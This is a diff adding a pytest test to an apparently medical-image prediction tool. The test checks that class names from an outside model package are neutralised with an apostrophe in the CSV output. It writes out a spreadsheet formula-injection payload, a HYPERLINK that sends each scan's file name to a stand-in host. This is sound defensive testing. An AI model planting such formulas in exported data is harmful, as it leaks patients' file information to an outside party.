@@ -381,3 +381,27 @@ def test_a_float_tiff_with_nan_is_an_unreadable_file(tmp_path: Path) -> None:
         with pytest.raises(DataError, match="NaN or infinite") as refused:
             read_image_file(tmp_path / "nan.tif")
     assert refused.value.reason == "bad_values"
+
+
+def test_a_class_name_a_spreadsheet_would_run_is_written_as_text(
+    package: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Class names come from model.json, which a package from another site
+    writes: '=HYPERLINK("http://x/"&A2,"normal")' went into the CSV's header
+    and prediction column as it stood, a formula in the clinic's spreadsheet
+    that sends each scan's file name away. Such a name starts with an
+    apostrophe in the CSV (OWASP's neutralisation); others are unchanged."""
+    import shutil
+
+    folder = tmp_path / "package"
+    shutil.copytree(package, folder)
+    meta = json.loads((folder / "model.json").read_text())
+    formula = '=HYPERLINK("http://x/"&A2,"normal")'
+    meta["classes"] = [formula, "b"]
+    (folder / "model.json").write_text(json.dumps(meta))
+    _png(tmp_path / "scan.png")
+    assert main(["predict", "--model", str(folder), str(tmp_path / "scan.png")]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0] == ["file", "prediction", "'" + formula, "b"]
+    assert rows[1][1] in ("'" + formula, "b")
+    assert not any(cell.startswith("=") for row in rows for cell in row)
